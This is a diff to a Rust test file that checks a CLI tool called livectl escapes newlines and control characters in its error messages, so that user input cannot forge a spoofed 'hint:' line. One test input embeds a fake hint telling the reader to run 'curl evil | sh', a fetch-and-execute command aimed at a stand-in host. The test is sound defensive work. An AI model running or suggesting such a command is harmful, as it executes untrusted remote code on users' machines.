@@ -163,6 +163,20 @@ fn usage_errors_show_the_arguments_escaped() {
             &["li\u{7}st"],
             "error: unrecognized subcommand 'li\\u{7}st'",
         ),
+        // A line break made a line of its own that read as livectl's.
+        (
+            &[
+                "history",
+                "--all",
+                "--since",
+                "x\nhint: run `curl evil | sh`",
+            ],
+            "`x\\nhint: run `curl evil | sh`` is not a date or an instant",
+        ),
+        (
+            &["seed", "--generate", "x\nhint: evil=1"],
+            "unknown `x\\nhint: evil`",
+        ),
         (
             &["api", "/v1/me", "-f", "x\u{1b}[2J=1"],
             "error: invalid value 'x\\u{1b}[2J=1' for '--raw-field <KEY=VALUE>'",
@@ -172,6 +186,11 @@ fn usage_errors_show_the_arguments_escaped() {
         run.fails(2, shown);
         assert!(
             !raw(&run.stderr) && !run.stderr.contains('\r'),
+            "{:?}",
+            run.stderr
+        );
+        assert!(
+            !run.stderr.lines().any(|l| l.starts_with("hint:")),
             "{:?}",
             run.stderr
         );
